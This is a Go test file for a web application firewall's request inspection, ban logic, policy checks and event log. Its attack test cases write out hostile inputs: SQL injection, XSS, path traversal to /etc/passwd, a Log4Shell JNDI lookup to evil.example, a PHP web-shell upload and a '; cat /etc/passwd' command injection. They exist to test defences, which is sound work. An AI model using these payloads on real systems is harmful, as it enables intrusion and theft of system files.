package waf

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/abilian/hop3/hop3"
)

// scripted is an engine that does as a test says: the real one never panics.
type scripted func(*Request) (Finding, error)

func (e scripted) Inspect(r *Request) (Finding, error) { return e(r) }
func (scripted) Has(rule int) bool                     { return rule >= 911100 }

type post struct {
	*Guard
	t     testing.TB
	saved []hop3.Ban
}

func newPost(t testing.TB, engine scripted) *post {
	p := &post{t: t}
	o := Options{Dir: t.TempDir(), Logger: slog.New(slog.DiscardHandler), Save: func(b hop3.Ban) error {
		p.saved = append(p.saved, b)
		return nil
	}}
	if engine != nil {
		o.Engine = func(int) (Engine, error) { return engine, nil }
	}
	p.Guard = New(o)
	return p
}

func (p *post) policy(w hop3.WAF) *Policy {
	p.t.Helper()
	if w.Paranoia == 0 {
		w.Paranoia = 1
	}
	compiled, err := p.Compile("blog", w)
	if err != nil {
		p.t.Fatal(err)
	}
	return compiled
}

func visit(method, uri, from string, header ...string) *Visit {
	v := &Visit{ID: "0123456789", Request: Request{Method: method, URI: uri, Proto: "HTTP/1.1", Host: "blog.example.com",
		Header: http.Header{"User-Agent": {"Mozilla/5.0"}, "Accept": {"*/*"}}}}
	v.Path, _, _ = strings.Cut(uri, "?")
	v.Client, _ = netip.ParseAddr(from)
	for i := 0; i < len(header); i += 2 {
		v.Header[header[i]] = append(v.Header[header[i]], header[i+1])
	}
	return v
}

// ask is a request from its beginning to its end; got is the body that the app
// gets.
func (p *post) ask(policy *Policy, v *Visit, body string) (verdict Verdict, got string) {
	p.t.Helper()
	if verdict = p.Admit(policy, v); verdict != Pass {
		return verdict, ""
	}
	if body != "" {
		v.Header.Set("Content-Length", fmt.Sprint(len(body)))
	}
	rest, verdict := p.Inspect(p.t.(*testing.T).Context(), policy, v, io.NopCloser(strings.NewReader(body)))
	if verdict == Pass {
		b, err := io.ReadAll(rest)
		if err != nil {
			p.t.Error(err)
		}
		got = string(b)
	}
	return verdict, got
}

func (p *post) events() (out []string) {
	p.t.Helper()
	list, err := p.Events("blog", 1000)
	if err != nil {
		p.t.Fatal(err)
	}
	for _, e := range list {
		out = append(out, e.Action+" "+e.Rule)
	}
	return out
}

const form = "application/x-www-form-urlencoded"

func TestAttacksAreRefused(t *testing.T) {
	p := newPost(t, nil)
	block, detect := p.policy(hop3.WAF{}), p.policy(hop3.WAF{Detect: true})
	upload := "--xx\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--xx--\r\n"
	for name, attack := range map[string]struct {
		v    func() *Visit
		body string
		rule string
	}{
		"SQL in the query": {func() *Visit { return visit("GET", "/?id="+url.QueryEscape("1' OR '1'='1' -- "), "192.0.2.1") }, "", "sqli"},
		"script":           {func() *Visit { return visit("GET", "/?q="+url.QueryEscape("<script>alert(1)</script>"), "192.0.2.1") }, "", "xss"},
		"traversal":        {func() *Visit { return visit("GET", "/show?file=../../../../etc/passwd", "192.0.2.1") }, "", "lfi"},
		"log4shell":        {func() *Visit { return visit("GET", "/", "192.0.2.1", "X-Api-Version", "${jndi:ldap://evil.example/a}") }, "", "9"},
		"SQL in a form":    {func() *Visit { return visit("POST", "/", "192.0.2.1", "Content-Type", form) }, "id=" + url.QueryEscape("1 UNION SELECT password FROM users--"), "sqli"},
		"SQL in JSON": {func() *Visit { return visit("POST", "/", "192.0.2.1", "Content-Type", "application/json") },
			`{"user":{"id":"1' UNION SELECT password FROM users-- "}}`, "sqli"},
		"broken JSON": {func() *Visit { return visit("POST", "/", "192.0.2.1", "Content-Type", "application/json") }, `{"a":`, "200002 protocol"},
		"PHP in a upload": {func() *Visit {
			return visit("POST", "/", "192.0.2.1", "Content-Type", "multipart/form-data; boundary=xx")
		}, upload, "9"},
		"a shell": {func() *Visit { return visit("GET", "/?host="+url.QueryEscape("; cat /etc/passwd"), "192.0.2.1") }, "", "9"},
		"a cookie": {func() *Visit {
			return visit("GET", "/", "192.0.2.1", "Cookie", "a=1' UNION SELECT password FROM users-- ")
		}, "", "sqli"},
	} {
		t.Run(name, func(t *testing.T) {
			if verdict, _ := p.ask(block, attack.v(), attack.body); verdict != Refuse {
				t.Errorf("it gets through: %d", verdict)
			}
			if verdict, got := p.ask(detect, attack.v(), attack.body); verdict != Pass || got != attack.body {
				t.Errorf("only detected, it is %d with body %q", verdict, got)
			}
			events := p.events()
			last := events[len(events)-2:]
			if !strings.HasPrefix(last[0], "block ") || !strings.HasPrefix(last[1], "detect ") || !strings.Contains(last[0], attack.rule) || last[0][6:] != last[1][7:] {
				t.Errorf("%q, want %q", last, attack.rule)
			}
		})
	}
}

func TestWhatAppsDoPasses(t *testing.T) {
	p := newPost(t, nil)
	block := p.policy(hop3.WAF{})
	photo := "--xx\r\nContent-Disposition: form-data; name=\"caption\"\r\n\r\nIt's a dog's life & more\r\n" +
		"--xx\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"dog.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n" + strings.Repeat("\x00\xff\xd8\xe0JFIF", 100) + "\r\n--xx--\r\n"
	big := strings.Replace(photo, "JFIF", strings.Repeat("JFIF", BodyLimit), 1)
	markdown := `{"title":"How to select a database","body":"# Notes\n\nUse *emphasis*, ` + "`code`" + ` and a [link](https://example.com/a?b=c).\n\n    func main() { fmt.Println(\"hello\") }\n\n> It's 5 o'clock & all is well; that's 100% true.\n"}`
	for name, c := range map[string]struct {
		v    *Visit
		body string
	}{
		"a page":         {visit("GET", "/articles/2026/a-title-of-one?page=2&sort=-created_at", "192.0.2.1", "Cookie", "session=eyJhbGciOiJIUzI1NiJ9.eyJpZCI6MX0.c2ln; theme=dark"), ""},
		"a search":       {visit("GET", "/?q=where+to+drop+the+table+tennis+ball", "192.0.2.1"), ""},
		"JSON":           {visit("POST", "/api/articles", "192.0.2.1", "Content-Type", "application/json; charset=utf-8", "Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJpZCI6MX0.c2ln"), `{"a":[1,2,{"b":null}],"name":"Zoë O'Brien","ok":true}`},
		"PUT":            {visit("PUT", "/api/articles/7", "192.0.2.1", "Content-Type", "application/json"), `{"title":"x"}`},
		"PATCH":          {visit("PATCH", "/api/articles/7", "192.0.2.1", "Content-Type", "application/merge-patch+json"), `{"title":null}`},
		"DELETE":         {visit("DELETE", "/api/articles/7", "192.0.2.1"), ""},
		"a form":         {visit("POST", "/login", "192.0.2.1", "Content-Type", form), "user=ada&password=" + url.QueryEscape("c0rrect-h0rse!battery") + "&next=%2Fhome"},
		"an upload":      {visit("POST", "/photos", "192.0.2.1", "Content-Type", "multipart/form-data; boundary=xx"), photo},
		"a large upload": {visit("POST", "/photos", "192.0.2.1", "Content-Type", "multipart/form-data; boundary=xx"), big},
		"Markdown":       {visit("POST", "/notes", "192.0.2.1", "Content-Type", "application/json"), markdown},
		"a WebSocket":    {visit("GET", "/socket", "192.0.2.1", "Connection", "Upgrade", "Upgrade", "websocket", "Sec-Websocket-Key", "dGhlIHNhbXBsZSBub25jZQ==", "Sec-Websocket-Version", "13", "Origin", "https://blog.example.com"), ""},
		"other letters":  {visit("GET", "/caf%C3%A9/%E6%97%A5%E6%9C%AC", "192.0.2.1"), ""},
	} {
		verdict, got := p.ask(block, c.v, c.body)
		if verdict != Pass || got != c.body {
			t.Errorf("%s is refused: %d, %v", name, verdict, p.events())
		}
	}
}

func TestWhatCannotBeInspectedIsRefused(t *testing.T) {
	broken := map[string]scripted{
		"panics": func(*Request) (Finding, error) { panic("in a rule") },
		"fails":  func(*Request) (Finding, error) { return Finding{}, errors.New("no memory") },
	}
	for name, engine := range broken {
		p := newPost(t, engine)
		if verdict, _ := p.ask(p.policy(hop3.WAF{}), visit("GET", "/", "192.0.2.1"), ""); verdict != Fail {
			t.Errorf("an engine that %s: %d", name, verdict)
		}
		if verdict, _ := p.ask(p.policy(hop3.WAF{Detect: true}), visit("GET", "/", "192.0.2.1"), ""); verdict != Pass {
			t.Errorf("an engine that %s and only detects: %d", name, verdict)
		}
		if got := fmt.Sprint(p.events()); got != "[error engine error engine]" {
			t.Errorf("an engine that %s: %s", name, got)
		}
	}

	var saw int
	p := newPost(t, func(r *Request) (Finding, error) { saw = len(r.Body); return Finding{}, nil })
	policy := p.policy(hop3.WAF{Tunings: []hop3.WAFTuning{{Paths: []string{"/dav/.*"}, SkipBody: true}}})
	for _, c := range []struct {
		path, kind string
		size       int
		want       Verdict
		saw        int
	}{
		{"/", "application/json", BodyLimit, Pass, BodyLimit},
		{"/", "application/json", BodyLimit + 1, TooLarge, -1},
		{"/", "", 10 * BodyLimit, TooLarge, -1},
		{"/", "multipart/form-data; boundary=x", 10 * BodyLimit, Pass, BodyLimit},
		{"/", "multipart/form-data", 10 * BodyLimit, TooLarge, -1},
		{"/dav/file", "application/octet-stream", 10 * BodyLimit, Pass, 0},
		{"/dav/../x", "application/octet-stream", 10 * BodyLimit, TooLarge, -1},
	} {
		saw = -1
		v := visit("POST", c.path, "192.0.2.1")
		if c.kind != "" {
			v.Header.Set("Content-Type", c.kind)
		}
		body := strings.Repeat("a", c.size)
		if verdict, got := p.ask(policy, v, body); verdict != c.want || saw != c.saw || c.want == Pass && got != body {
			t.Errorf("%+v: %d, the engine saw %d, the app gets %d bytes", c, verdict, saw, len(got))
		}
	}
	parts := visit("POST", "/", "192.0.2.1", "Content-Type", "multipart/form-data; boundary=x")
	if verdict, _ := p.ask(policy, parts, strings.Repeat("--x\r\n\r\n", mostParts+1)); verdict != TooLarge {
		t.Errorf("a thousand parts: %d", verdict)
	}
	if n := p.spooled.Load(); n != 0 {
		t.Errorf("%d bytes are still counted", n)
	}

	// A client that goes in the middle of a body.
	v := visit("POST", "/", "192.0.2.1")
	_, verdict := p.Inspect(t.Context(), policy, v, io.NopCloser(io.MultiReader(strings.NewReader("half"), failing{io.ErrUnexpectedEOF})))
	if verdict != Refuse {
		t.Errorf("half a body: %d", verdict)
	}
	limited := http.MaxBytesReader(nil, io.NopCloser(strings.NewReader("too long")), 3)
	if _, verdict := p.Inspect(t.Context(), policy, v, limited); verdict != TooLarge {
		t.Errorf("a body over the app's own limit: %d", verdict)
	}
	p.spooled.Store(mostSpooled)
	if _, verdict := p.Inspect(t.Context(), policy, v, io.NopCloser(bytes.NewReader(make([]byte, 2*free)))); verdict != Fail {
		t.Errorf("one body too many: %d", verdict)
	}
	if n := p.spooled.Load(); n != mostSpooled {
		t.Errorf("%d bytes are counted", n-mostSpooled)
	}
}

func TestBans(t *testing.T) {
	p := newPost(t, func(r *Request) (Finding, error) {
		return Finding{Refused: strings.Contains(r.URI, "bad"), Rules: []int{942100}, Kinds: []string{"sqli"}}, nil
	})
	p.SetNetworks([]hop3.Network{{Name: "office", CIDRs: []string{"203.0.113.0/24"}}})
	w := hop3.WAF{Bans: &hop3.WAFBans{Threshold: 3, Window: time.Hour, Duration: time.Hour}}
	policy := p.policy(w)
	bad := func(from string) Verdict { v, _ := p.ask(policy, visit("GET", "/bad", from), ""); return v }
	good := func(from string) Verdict { v, _ := p.ask(policy, visit("GET", "/", from), ""); return v }

	for range 2 {
		bad("192.0.2.1")
	}
	if good("192.0.2.1") != Pass {
		t.Error("banned before the threshold")
	}
	bad("192.0.2.1")
	if good("192.0.2.1") != Refuse || good("192.0.2.2") != Pass {
		t.Error("the threshold bans nobody, or the wrong one")
	}
	if len(p.saved) != 1 || p.saved[0].Source != "192.0.2.1" || p.saved[0].App != "blog" || p.saved[0].Reason != "942100 sqli" {
		t.Errorf("%+v", p.saved)
	}
	// One client has a /64 of IPv6.
	for i := range 3 {
		bad(fmt.Sprintf("2001:db8::%d", i))
	}
	if good("2001:db8::ffff") != Refuse || good("2001:db8:0:1::1") != Pass || p.saved[1].Source != "2001:db8::/64" {
		t.Errorf("a /64 is not one client: %+v", p.saved)
	}
	// Who has a name, and the machine itself, is never banned; nor whose
	// address is not known.
	for _, from := range []string{"203.0.113.9", "127.0.0.1", "::1", ""} {
		for range 5 {
			if bad(from) != Refuse {
				t.Errorf("%s gets through", from)
			}
		}
		if good(from) != Pass {
			t.Errorf("%s is banned", from)
		}
	}
	if len(p.saved) != 2 {
		t.Errorf("%+v", p.saved)
	}

	// Another process, with what was stored.
	p2 := newPost(t, func(*Request) (Finding, error) { return Finding{}, nil })
	if err := p2.LoadBans(func() ([]hop3.Ban, error) { return p.saved, nil }); err != nil {
		t.Fatal(err)
	}
	policy2 := p2.policy(w)
	if v, _ := p2.ask(policy2, visit("GET", "/", "192.0.2.1"), ""); v != Refuse {
		t.Error("a restart opens the door")
	}
	if v, _ := p2.ask(p2.policy(hop3.WAF{}), visit("GET", "/", "192.0.2.1"), ""); v != Pass {
		t.Error("banned where bans are off")
	}
	p2.SetNetworks([]hop3.Network{{Name: "home", CIDRs: []string{"192.0.2.1/32"}}})
	if v, _ := p2.ask(policy2, visit("GET", "/", "192.0.2.1"), ""); v != Pass {
		t.Error("banned though it has a name now")
	}
	p2.SetNetworks(nil)
	past := p.saved[0]
	past.Expires = time.Now().Add(-time.Second)
	if err := p2.LoadBans(func() ([]hop3.Ban, error) { return []hop3.Ban{past}, nil }); err != nil {
		t.Fatal(err)
	}
	if v, _ := p2.ask(policy2, visit("GET", "/", "192.0.2.1"), ""); v != Pass {
		t.Error("banned for ever")
	}
	if err := p.ForgetApp("blog"); err != nil || good("192.0.2.1") != Pass || len(p.events()) > 0 {
		t.Errorf("an app of the same name inherits: %v, %v", err, p.events())
	}
}

func TestABanIsExact(t *testing.T) {
	var b bans
	limit := hop3.WAFBans{Threshold: 3, Window: time.Minute, Duration: time.Hour}
	now := time.Now()
	addr := netip.MustParseAddr("192.0.2.1")
	for i, c := range []struct {
		after time.Duration
		want  bool
	}{{0, false}, {30 * time.Second, false}, {61 * time.Second, false}, {62 * time.Second, true}, {63 * time.Second, false}} {
		if got := b.add("blog", addr, limit, now.Add(c.after)); got != c.want {
			t.Errorf("%d: %v", i, got)
		}
	}
	// However many clients there are, only so many are remembered.
	for i := range 3 * mostOffenders {
		b.add("blog", netip.AddrFrom4([4]byte{10, byte(i >> 16), byte(i >> 8), byte(i)}), limit, now.Add(time.Duration(i)))
	}
	if n := len(b.apps["blog"].counts); n > mostOffenders {
		t.Errorf("%d clients are remembered", n)
	}

	// Exactly one of those who come at once is told that it is banned by that.
	p := newPost(t, nil)
	var mu sync.Mutex
	var wg sync.WaitGroup
	times := 0
	for range 64 {
		wg.Go(func() {
			if p.count("blog", addr, "x", hop3.WAFBans{Threshold: 64, Window: time.Hour, Duration: time.Hour}, time.Now()) {
				mu.Lock()
				times++
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	if times != 1 || len(p.saved) != 1 || !p.banned("blog", addr, time.Now()) {
		t.Errorf("banned %d times", times)
	}
}

func TestThePolicyIsCompiledBeforeItIsUsed(t *testing.T) {
	p := newPost(t, nil)
	for want, w := range map[string]hop3.WAF{
		"not a regular expression": {Paranoia: 1, Allow: []string{"("}},
		"repeats too much":         {Paranoia: 1, Allow: []string{"[bdfhjlnprtvxz]{1000}"}},
		"at most 1000 characters":  {Paranoia: 1, Allow: []string{strings.Repeat("a", 2000)}},
		"no rule 123456":           {Paranoia: 1, Tunings: []hop3.WAFTuning{{Rules: []int{123456}}}},
		"no rule 949110":           {Paranoia: 1, Tunings: []hop3.WAFTuning{{Rules: []int{949110}}}}, // it decides for all others
		"no rule 901200":           {Paranoia: 1, Tunings: []hop3.WAFTuning{{Rules: []int{901200}}}},
		"not a paranoia":           {Paranoia: 5},
		"reserved":                 {Paranoia: 1, Gates: []hop3.WAFGate{{Paths: []string{"/"}, Network: "auth"}}},
	} {
		if err := p.Check(w); hop3.CodeOf(err) != hop3.CodeInvalid || !strings.Contains(err.Error(), want) {
			t.Errorf("%v, want %q", err, want)
		}
	}
	for paranoia := 1; paranoia <= 4; paranoia++ {
		for range 3 {
			if err := p.Check(hop3.WAF{Paranoia: paranoia, Tunings: []hop3.WAFTuning{{Rules: []int{942100, 200002, 920420}}}}); err != nil {
				t.Error(err)
			}
		}
	}
	if len(p.engines) != 4 {
		t.Errorf("%d engines", len(p.engines))
	}
}

func TestTheLog(t *testing.T) {
	p := newPost(t, nil)
	policy := p.policy(hop3.WAF{})
	v := visit("GET", "/a\x1b[2J?token=secret", "192.0.2.1", "Cookie", "session=secret")
	v.Path = "/" + strings.Repeat("é\x1b", longestText)
	for range 3 * maxLog / longestText {
		p.record(policy, v, hop3.WAFBlocked, "942100 sqli")
	}
	events, err := p.Events("blog", 5)
	if err != nil || len(events) != 5 || events[4].Rule != "942100 sqli" || len(events[4].Path) > longestText+8 {
		t.Errorf("%v, %+v", err, events)
	}
	var size int64
	for _, suffix := range []string{"", ".1", ".2"} {
		text, err := tail(p.log.file("blog")+suffix, 10*maxLog)
		if err != nil || bytes.Contains(text, []byte("secret")) || bytes.Contains(text, []byte{0x1b}) {
			t.Errorf("%s: %v", suffix, err)
		}
		size += int64(len(text))
	}
	if size > 3*maxLog+4096 {
		t.Errorf("the log takes %d bytes", size)
	}
	if many, err := p.Events("blog", 100_000); err != nil || len(many) < 1000 {
		t.Errorf("%d events, %v", len(many), err)
	}
	if all, err := p.Events("", 10); err != nil || len(all) != 10 {
		t.Errorf("%d events of all apps, %v", len(all), err)
	}
}
